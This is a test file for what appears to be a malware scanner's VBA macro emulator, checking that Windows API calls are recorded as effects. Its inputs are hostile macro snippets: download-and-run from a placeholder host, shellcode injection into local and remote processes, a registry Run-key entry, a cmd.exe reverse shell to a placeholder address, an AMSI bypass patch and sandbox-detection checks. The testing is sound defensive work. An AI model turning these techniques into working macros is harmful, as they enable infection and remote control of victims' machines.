import base64
import contextlib
import uuid

import pytest
from evaluate.com.program import machine, run
from hypothesis import given
from hypothesis import strategies as st

from emoscan.evaluate.com import api

CODE = bytes(range(0xFC, 0xDC, -1)) * 2
LIST = ", ".join(map(str, CODE))


def declare(name, library, parameters, alias="", kind="Function"):
    alias = f' Alias "{alias}"' if alias else ""
    result = " As LongPtr" if kind == "Function" else ""
    return f'Private Declare PtrSafe {kind} {name} Lib "{library}"{alias} ({parameters}){result}\n'


URLMON = declare(
    "Fetch",
    "urlmon",
    "ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal r As Long, ByVal cb As LongPtr",
    "URLDownloadToFileA",
)
SHELL = declare(
    "Run",
    "shell32.dll",
    "ByVal hwnd As LongPtr, ByVal op As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal n As Long",
    "ShellExecuteA",
)
ALLOC = declare("VirtualAlloc", "kernel32", "ByVal a As LongPtr, ByVal s As LongPtr, ByVal t As Long, ByVal p As Long")
MOVE = declare("RtlMoveMemory", "kernel32", "ByVal d As LongPtr, ByRef s As Any, ByVal n As LongPtr")
THREAD = declare(
    "CreateThread",
    "kernel32",
    "ByVal a As Long, ByVal s As Long, ByVal st As LongPtr, ByVal p As Long, ByVal f As Long, ByRef id As Long",
)


def test_download_and_run():
    outcome = run(
        """
        Dim path As String
        path = Environ("PUBLIC") & "\\a.exe"
        If Fetch(0, "http://files.example.test/a.exe", path, 0, 0) = 0 Then Run 0, "open", path, "-x", "", 0
        """,
        before=URLMON + SHELL,
    )
    assert outcome.effects() == [("download", "http://files.example.test/a.exe"), ("run", r"C:\Users\Public\a.exe -x")]
    assert outcome.facts[-1].detail["show_window"] == "0"
    failing = run('Main = Fetch(0, "http://files.example.test/a.exe", "a.exe", 0, 0)', before=URLMON, online=False)
    assert failing.value < 0
    assert failing.effects("download") == ["http://files.example.test/a.exe"]


def test_wide_function_with_addresses_of_texts():
    outcome = run(
        """
        Dim u As String, f As String
        u = "http://files.example.test/ü": f = "C:\\Users\\Public\\a.dll"
        Main = Fetch(0, StrPtr(u), StrPtr(f), 0, 0)
        """,
        before=declare(
            "Fetch",
            "urlmon.dll",
            "ByVal c As LongPtr, ByVal u As LongPtr, ByVal f As LongPtr, ByVal r As Long, ByVal b As LongPtr",
            "URLDownloadToFileW",
        ),
    )
    assert outcome.value == 0
    assert outcome.effects() == [("download", "http://files.example.test/ü")]
    assert outcome.fact("effect.download").detail["path"] == r"C:\Users\Public\a.dll"
    assert outcome.fact("effect.download").how == "URLDownloadToFileW"


WRITERS = {
    "element by element": (
        f"""
        b = Array({LIST})
        For i = LBound(b) To UBound(b)
            v = b(i)
            RtlMoveMemory address + i, v, 1
        Next
        """,
        "VirtualAlloc, RtlMoveMemory, CreateThread",
    ),
    "whole byte array": (
        f"""
        Dim data(63) As Byte
        b = Array({LIST})
        For i = 0 To 63: data(i) = b(i): Next
        RtlMoveMemory address, data(0), 64
        """,
        "VirtualAlloc, RtlMoveMemory, CreateThread",
    ),
    "by address": (
        f"""
        Dim data(63) As Byte
        b = Array({LIST})
        For i = 0 To 63: data(i) = b(i): Next
        RtlMoveMemory address, ByVal VarPtr(data(0)), 32
        RtlMoveMemory address + 32, ByVal VarPtr(data(32)), 32
        """,
        "VirtualAlloc, RtlMoveMemory, CreateThread",
    ),
    "from longs": (
        f"""
        Dim words(15) As Long
        b = Array({", ".join(str(int.from_bytes(CODE[i : i + 4], "little", signed=True)) for i in range(0, 64, 4))})
        For i = 0 To 15: words(i) = b(i): Next
        RtlMoveMemory address, words(0), 64
        """,
        "VirtualAlloc, RtlMoveMemory, CreateThread",
    ),
}


@pytest.mark.parametrize("way", WRITERS)
def test_machine_code(way):
    body, chain = WRITERS[way]
    outcome = run(
        f"Dim address As LongPtr, v As Long, id As Long\naddress = VirtualAlloc(0, 64, &H1000, &H40)\n{body}\nh = CreateThread(0, 0, address, 0, 0, id)",
        before=ALLOC + MOVE + THREAD,
    )
    assert outcome.error == 0
    assert [(c.kind, c.data, c.how) for c in outcome.children] == [("data.shellcode", CODE, chain)]
    fact = outcome.fact("effect.load")
    assert (fact.value, fact.how) == ("64 bytes of machine code", chain)


def test_code_that_is_never_started_is_seen_at_the_end():
    outcome = run(
        "Dim a As LongPtr, v As Long\na = VirtualAlloc(0, 100, &H3000, &H40)\nFor i = 0 To 31: v = 65 + i: RtlMoveMemory a + i, v, 1: Next",
        before=ALLOC + MOVE,
    )
    assert [c.data for c in outcome.children] == [bytes(range(65, 97))]


STARTERS = {
    "EnumSystemLocalesA": "ByVal f As LongPtr, ByVal p As LongPtr",
    "EnumDateFormatsW": "ByVal f As LongPtr, ByVal l As Long, ByVal p As Long",
    "EnumThreadWindows": "ByVal t As Long, ByVal f As LongPtr, ByVal p As Long",
    "QueueUserAPC": "ByVal f As LongPtr, ByVal t As LongPtr, ByVal p As Long",
    "CallWindowProcA": "ByVal f As LongPtr, ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long",
    "CertEnumSystemStore": "ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal f As LongPtr",
}


@pytest.mark.parametrize("name", STARTERS)
def test_callbacks(name):
    parameters = STARTERS[name]
    arguments = ", ".join("a" if "f As" in p else "0" for p in parameters.split(","))
    outcome = run(
        f"Dim a As LongPtr, v As Long\na = VirtualAlloc(0, 64, &H1000, &H40)\nFor i = 0 To 31: v = 65 + i: RtlMoveMemory a + i, v, 1: Next\nx = {name}({arguments})",
        before=ALLOC + MOVE + declare(name, "user32", parameters),
    )
    assert [c.data for c in outcome.children] == [bytes(range(65, 97))]
    assert outcome.children[0].how.startswith("VirtualAlloc, RtlMoveMemory, ")


def test_another_process():
    outcome = run(
        """
        Dim si As STARTUPINFO, pi As PROCESS_INFORMATION, a As LongPtr, b(31) As Byte, n As Long
        si.dwFlags = 1: si.wShowWindow = 0
        r = CreateProcessA(vbNullString, "rundll32.exe", 0, 0, 0, 4, 0, vbNullString, si, pi)
        a = VirtualAllocEx(pi.hProcess, 0, 32, &H1000, &H40)
        For i = 0 To 31: b(i) = 65 + i: Next
        r = WriteProcessMemory(pi.hProcess, a, b(0), 32, n)
        h = CreateRemoteThread(pi.hProcess, 0, 0, a, 0, 0, 0)
        Main = pi.dwProcessId & " " & n
        """,
        before="""
        Private Type PROCESS_INFORMATION
            hProcess As LongPtr
            hThread As LongPtr
            dwProcessId As Long
            dwThreadId As Long
        End Type
        Private Type STARTUPINFO
            cb As Long
            dwFlags As Long
            wShowWindow As Integer
        End Type
        Private Declare PtrSafe Function CreateProcessA Lib "kernel32" (ByVal a As String, ByVal c As String, ByVal p As LongPtr, _
            ByVal t As LongPtr, ByVal i As Long, ByVal f As Long, ByVal e As LongPtr, ByVal d As String, s As STARTUPINFO, pi As PROCESS_INFORMATION) As Long
        Private Declare PtrSafe Function VirtualAllocEx Lib "kernel32" (ByVal h As LongPtr, ByVal a As LongPtr, ByVal s As LongPtr, ByVal t As Long, ByVal p As Long) As LongPtr
        Private Declare PtrSafe Function WriteProcessMemory Lib "kernel32" (ByVal h As LongPtr, ByVal a As LongPtr, b As Any, ByVal s As LongPtr, n As Long) As Long
        Private Declare PtrSafe Function CreateRemoteThread Lib "kernel32" (ByVal h As LongPtr, ByVal a As LongPtr, ByVal s As LongPtr, ByVal st As LongPtr, ByVal p As LongPtr, ByVal f As Long, ByVal i As LongPtr) As LongPtr
        """,
    )
    assert outcome.value == "4712 32"
    assert outcome.effects() == [("run", "rundll32.exe"), ("load", "32 bytes of machine code")]
    assert outcome.facts[0].detail["flags"] == "suspended"
    assert outcome.facts[0].detail["show_window"] == "0"
    assert outcome.children[1].how == "VirtualAllocEx, WriteProcessMemory, CreateRemoteThread"


def test_code_as_texts():
    first, second = uuid.UUID(bytes_le=CODE[:16]), uuid.UUID(bytes_le=CODE[16:32])
    outcome = run(
        f"""
        Dim a As LongPtr
        a = VirtualAlloc(0, 64, &H1000, &H40)
        x = UuidFromStringA("{first}", a): x = UuidFromStringA("{second}", a + 16)
        For i = 0 To 0: x = RtlIpv4StringToAddressA("192.0.2.9", 0, 0, a + 32): Next
        x = CreateThread(0, 0, a, 0, 0, 0)
        """,
        before=ALLOC
        + THREAD
        + declare("UuidFromStringA", "rpcrt4", "ByVal s As String, ByVal a As LongPtr")
        + declare("RtlIpv4StringToAddressA", "ntdll", "ByVal s As String, ByVal b As Long, ByVal t As LongPtr, ByVal a As LongPtr"),
    )
    assert outcome.children[0].data == CODE[:32] + bytes([192, 0, 2, 9])


def test_base64_by_the_library():
    outcome = run(
        f"""
        Dim b(99) As Byte, n As Long
        n = 100
        x = CryptStringToBinaryA("{base64.b64encode(b"hello").decode()}", 0, 1, b(0), n, 0, 0)
        Main = n & b(0) & b(4) & b(5)
        """,
        before=declare(
            "CryptStringToBinaryA",
            "crypt32",
            "ByVal s As String, ByVal c As Long, ByVal f As Long, b As Byte, n As Long, ByVal k As Long, ByVal g As Long",
        ),
    )
    assert outcome.value == "51041110"


@pytest.mark.parametrize(
    ("name", "parameters", "body", "expected"),
    [
        (
            "GetTempPathA",
            "ByVal n As Long, ByVal b As String",
            "s = Space(260): n = GetTempPathA(260, s): Main = Left(s, n)",
            "C:\\Users\\tanaka\\AppData\\Local\\Temp\\",
        ),
        (
            "GetUserNameA",
            "ByVal b As String, n As Long",
            "s = String(255, 0): n = 255: x = GetUserNameA(s, n): Main = Left(s, n - 1)",
            "tanaka",
        ),
        (
            "GetComputerNameW",
            "ByVal b As LongPtr, n As Long",
            "s = Space(50): n = 50: x = GetComputerNameW(StrPtr(s), n): Main = Left(s, n)",
            "DESKTOP-7Q2M1KD",
        ),
        ("GetSystemMetrics", "ByVal i As Long", "Main = GetSystemMetrics(0)", 1920),
        ("IsDebuggerPresent", "", "Main = IsDebuggerPresent()", 0),
        ("GetUserDefaultLCID", "", "Main = GetUserDefaultLCID", 1041),
        ("FindWindowA", "ByVal c As String, ByVal t As String", 'Main = FindWindowA(vbNullString, "Wireshark")', 0),
        ("GetModuleHandleA", "ByVal n As String", 'Main = GetModuleHandleA("SbieDll.dll")', 0),
        ("GetTickCount", "", "a = GetTickCount(): For i = 1 To 10: Next: Main = GetTickCount() - a < 1000", True),
        ("GetFileAttributesA", "ByVal n As String", 'Main = GetFileAttributesA("C:\\none.exe")', -1),
        ("lstrlenA", "ByVal s As String", 'Main = lstrlenA("abc")', 3),
    ],
)
def test_about_the_computer(name, parameters, body, expected):
    outcome = run(f"Dim s As String, n As Long\n{body}", before=declare(name, "some", parameters))
    assert outcome.value == expected


def test_sleep_moves_the_clock():
    before = declare("Sleep", "kernel32", "ByVal ms As Long", kind="Sub")
    assert run("t = Now: Sleep 90000: Main = Now - t > 0.001", before=before).value is True


def test_timer_calls_its_procedure():
    outcome = run(
        "x = SetTimer(0, 0, 1000, AddressOf Tick)",
        before=declare("SetTimer", "user32", "ByVal h As LongPtr, ByVal i As LongPtr, ByVal e As Long, ByVal f As LongPtr")
        + """
        Sub Tick(ByVal h As Long, ByVal m As Long, ByVal i As Long, ByVal t As Long)
            Shell "calc.exe"
            x = SetTimer(0, 0, 1000, AddressOf Tick)
        End Sub
        """,
    )
    assert outcome.effects() == [("run", "calc.exe")]


INTERNET = (
    declare("InternetOpenA", "wininet", "ByVal a As String, ByVal t As Long, ByVal p As String, ByVal b As String, ByVal f As Long")
    + declare(
        "InternetOpenUrlA",
        "wininet",
        "ByVal h As LongPtr, ByVal u As String, ByVal x As String, ByVal l As Long, ByVal f As Long, ByVal c As Long",
    )
    + declare("InternetReadFile", "wininet", "ByVal h As LongPtr, ByVal b As String, ByVal n As Long, r As Long")
)


def test_reading_from_an_address():
    outcome = run(
        """
        Dim buffer As String, n As Long, all
        h = InternetOpenUrlA(InternetOpenA("agent", 1, "", "", 0), "http://files.example.test/x", "", 0, 0, 0)
        Do
            buffer = Space(1024)
            x = InternetReadFile(h, buffer, 1024, n)
            If n = 0 Then Exit Do
            all = all & buffer
            rounds = rounds + 1
        Loop
        Open "C:\\Users\\Public\\x.exe" For Binary As #1
        Put #1, , all
        Close #1
        Main = rounds
        """,
        before=INTERNET,
    )
    assert outcome.value == 1
    assert ("download", "http://files.example.test/x") in outcome.effects()


def test_requests_in_pieces():
    outcome = run(
        """
        h = WinHttpConnect(WinHttpOpen(0, 0, 0, 0, 0), StrPtr("files.example.test"), 443, 0)
        r = WinHttpOpenRequest(h, StrPtr("POST"), StrPtr("/up"), 0, 0, 0, 0)
        x = WinHttpSendRequest(r, 0, 0, 0, 0, 0, 0)
        """,
        before=declare("WinHttpOpen", "winhttp", "ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long, ByVal e As Long")
        + declare("WinHttpConnect", "winhttp", "ByVal a As LongPtr, ByVal s As LongPtr, ByVal p As Long, ByVal r As Long")
        + declare(
            "WinHttpOpenRequest",
            "winhttp",
            "ByVal a As LongPtr, ByVal v As LongPtr, ByVal p As LongPtr, ByVal x As Long, ByVal y As Long, ByVal z As Long, ByVal f As Long",
        )
        + declare(
            "WinHttpSendRequest",
            "winhttp",
            "ByVal a As LongPtr, ByVal v As LongPtr, ByVal p As Long, ByVal x As Long, ByVal y As Long, ByVal z As Long, ByVal f As Long",
        ),
    )
    assert outcome.effects() == [("download", "https://files.example.test/up")]
    assert outcome.fact("effect.download").detail["method"] == "POST"


def test_files_by_handles():
    outcome = run(
        """
        Dim b(2) As Byte, n As Long
        b(0) = 77: b(1) = 90: b(2) = 144
        h = CreateFileA("C:\\Users\\Public\\a.exe", &H40000000, 0, 0, 2, 128, 0)
        x = WriteFile(h, b(0), 3, n, 0)
        x = CloseHandle(h)
        x = WinExec("C:\\Users\\Public\\a.exe", 0)
        Main = n
        """,
        before=declare(
            "CreateFileA",
            "kernel32",
            "ByVal n As String, ByVal a As Long, ByVal s As Long, ByVal x As LongPtr, ByVal d As Long, ByVal f As Long, ByVal t As LongPtr",
        )
        + declare("WriteFile", "kernel32", "ByVal h As LongPtr, b As Any, ByVal n As Long, w As Long, ByVal o As LongPtr")
        + declare("CloseHandle", "kernel32", "ByVal h As LongPtr")
        + declare("WinExec", "kernel32", "ByVal c As String, ByVal s As Long"),
    )
    assert outcome.value == 3
    assert outcome.effects() == [("write", r"C:\Users\Public\a.exe"), ("run", r"C:\Users\Public\a.exe")]
    assert outcome.children[0].data == b"MZ\x90"


def test_registry_by_handles():
    outcome = run(
        """
        Dim k As LongPtr
        x = RegOpenKeyExA(&H80000001, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, &H20006, k)
        x = RegSetValueExA(k, "u", 0, 1, ByVal "calc.exe", 8)
        """,
        before=declare("RegOpenKeyExA", "advapi32", "ByVal h As LongPtr, ByVal s As String, ByVal o As Long, ByVal a As Long, r As LongPtr")
        + declare(
            "RegSetValueExA",
            "advapi32",
            "ByVal h As LongPtr, ByVal n As String, ByVal r As Long, ByVal t As Long, d As Any, ByVal c As Long",
        ),
    )
    assert outcome.effects() == [("registry", r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\u")]
    assert outcome.texts("script.cmd") == ["calc.exe"]


def test_libraries():
    outcome = run(
        'x = LoadLibraryA("kernel32.dll"): x = LoadLibraryA("C:\\Users\\Public\\a.dll"): x = Odd("a", 1)',
        before=declare("LoadLibraryA", "kernel32", "ByVal n As String") + declare("Odd", "C:\\x\\odd.dll", "ByVal a As String, b As Long"),
    )
    assert outcome.effects() == [("load", r"C:\Users\Public\a.dll")]
    assert [f.value for f in outcome.facts if f.kind == "eval.unmodelled"] == ["odd.dll!odd(a, 1)"]


@pytest.mark.parametrize("name", ["URLDownloadToFileA", "urldownloadtofilew", "URLDownloadToFile", "ZwAllocateVirtualMemory", "_lcreat@8"])
def test_names(name):
    assert api.find(name) is not None


api.load()
NAMES = sorted(api._ENTRIES)
ARGUMENTS = st.lists(
    st.one_of(
        st.sampled_from([0, 1, -1, 0x40, 0x0A000000, 0x0A000010, 1 << 40, "", "a", "http://x.example.test/", r"C:\a.exe", None, 1.5, True]),
        st.sampled_from(["box", "bytes", "address", "array"]),
    ),
    max_size=11,
)


@given(st.lists(st.tuples(st.sampled_from(NAMES), ARGUMENTS), max_size=15))
def test_any_function_with_any_arguments(calls):
    from emoscan.budget import LimitReached
    from emoscan.evaluate.core.failures import ScriptEnd, ScriptError
    from emoscan.evaluate.vba.arrays import array_of
    from emoscan.evaluate.vba.project import Project
    from emoscan.evaluate.vba.runtime import ElementRef, TypedRef

    made = machine()
    Project(made)
    address = api.invoke(made, "VirtualAlloc", (0, 4096, 0x1000, 0x40))
    data = array_of(list(range(64)), 0, "byte")
    for name, drawn in calls:
        values = {"box": TypedRef([5], "long"), "bytes": ElementRef(made, data, (3,)), "address": address, "array": array_of([1, "x"])}
        args = tuple(values.get(value, value) if isinstance(value, str) else value for value in drawn)
        with contextlib.suppress(ScriptError, ScriptEnd, LimitReached):
            api.invoke(made, name, args)
    made.finish()


def test_variants_are_laid_out_as_in_memory():
    """A text, a number and an array in a Variant, found by the address of the Variant plus eight."""
    outcome = run(
        """
        Dim address As Long, v, n, a, first As Integer, p As LongPtr, b As Byte
        v = "Az": n = 77: a = Array(5, 6)
        Dim data(1) As Byte: data(1) = 9: a = data
        RtlMoveMemory2 address, ByVal VarPtr(v) + 8, 4
        RtlMoveMemory2 first, ByVal address, 2
        Main = first
        RtlMoveMemory2 address, ByVal VarPtr(n) + 8, 4
        Main = Main & " " & address
        RtlMoveMemory2 p, ByVal VarPtr(a) + 8, 8
        RtlMoveMemory2 p, ByVal p + 16, 8
        RtlMoveMemory2 b, ByVal p + 1, 1
        Main = Main & " " & b
        """,
        before=declare("RtlMoveMemory2", "ntdll", "d As Any, s As Any, ByVal n As LongPtr", "RtlMoveMemory", "Sub"),
    )
    assert outcome.value == "65 77 9"


SOCKETS = (
    """
    Private Type ADDRINFO
        ai_flags As Long
        ai_family As Long
        ai_socktype As Long
        ai_protocol As Long
        ai_addrlen As Long
        ai_canonName As LongPtr
        ai_addr As LongPtr
        ai_next As LongPtr
    End Type
    Private Type SOCKADDR
        sin_family As Integer
        sin_port As Integer
        sin_addr As Long
        zero As String * 8
    End Type
    """
    + declare("getaddrinfo", "ws2_32", "ByVal h As String, ByVal s As String, ByVal i As LongPtr, r As LongPtr")
    + declare("Connect1", "ws2_32", "ByVal s As LongPtr, ByVal a As LongPtr, ByVal n As Long", "connect")
    + declare("Connect2", "ws2_32", "ByVal s As LongPtr, a As SOCKADDR, ByVal n As Long", "connect")
    + declare("htons", "ws2_32", "ByVal n As Long")
    + declare("inet_addr", "ws2_32", "ByVal s As String")
    + declare("Copy", "kernel32", "d As Any, ByVal s As LongPtr, ByVal n As LongPtr", "RtlMoveMemory", "Sub")
)


def test_connections():
    outcome = run(
        """
        Dim list As LongPtr, info As ADDRINFO, where As SOCKADDR
        x = getaddrinfo("c2.example.test", "4444", 0, list)
        Copy info, list, LenB(info)
        Main = LenB(info) & " " & Len(where) & " " & info.ai_socktype
        x = Connect1(5, info.ai_addr, 16)
        where.sin_family = 2: where.sin_port = htons(8080): where.sin_addr = inet_addr("192.0.2.7")
        x = Connect2(5, where, 16)
        """,
        before=SOCKETS,
    )
    assert outcome.value == "48 16 1"
    assert outcome.effects() == [("connect", "c2.example.test:4444"), ("connect", "192.0.2.7:8080")]


def test_shells_that_talk_to_a_socket():
    outcome = run(
        """
        Dim where As SOCKADDR, start As STARTUP
        s = OpenSocket(2, 1, 6)
        where.sin_family = 2: where.sin_port = htons(8080): where.sin_addr = inet_addr("192.0.2.7")
        x = Connect2(s, where, 16)
        start.flags = 256: start.inward = s: start.outward = s
        x = CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, start, 0)
        start.inward = 0: start.outward = 0
        x = CreateProcessA(0, "calc.exe", 0, 0, 1, 0, 0, 0, start, 0)
        """,
        before=SOCKETS + "Private Type STARTUP\nunused(14) As Long\nflags As Long\nshow As Integer\nmore As LongPtr\ninward As LongPtr\n"
        "outward As LongPtr\nerrors As LongPtr\nEnd Type\n"
        + declare("OpenSocket", "ws2_32", "ByVal a As Long, ByVal b As Long, ByVal c As Long", "socket")
        + declare(
            "CreateProcessA",
            "kernel32",
            "ByVal program As LongPtr, ByVal command As String, ByVal a As LongPtr, ByVal t As LongPtr, ByVal i As Long, ByVal f As Long, "
            "ByVal e As LongPtr, ByVal d As LongPtr, startup As STARTUP, ByVal p As LongPtr",
        ),
    )
    assert outcome.effects() == [("connect", "192.0.2.7:8080"), ("run", "cmd.exe"), ("run", "calc.exe")]
    runs = [f for f in outcome.facts if f.kind == "effect.run"]
    assert [f.detail.get("connection") for f in runs] == ["192.0.2.7:8080", None]


def test_functions_that_are_written_over():
    outcome = run(
        """
        Dim b(1) As Byte
        b(0) = 195
        Copy2 ByVal GetProcAddress(LoadLibraryA("amsi.dll"), "AmsiScanBuffer"), b(0), 1
        """,
        before=declare("LoadLibraryA", "kernel32", "ByVal n As String")
        + declare("GetProcAddress", "kernel32", "ByVal m As LongPtr, ByVal n As String")
        + declare("Copy2", "kernel32", "d As Any, s As Any, ByVal n As LongPtr", "RtlMoveMemory", "Sub"),
    )
    assert outcome.effects() == [("load", "code over amsi!AmsiScanBuffer: c3")]


def test_named_arguments_of_functions():
    outcome = run(
        'x = WinExec(nShow:=0, cmd:="calc.exe")', before=declare("WinExec", "kernel32", "ByVal cmd As String, ByVal nShow As Long")
    )
    assert outcome.effects() == [("run", "calc.exe")]
    assert outcome.fact("effect.run").detail["show_window"] == "0"
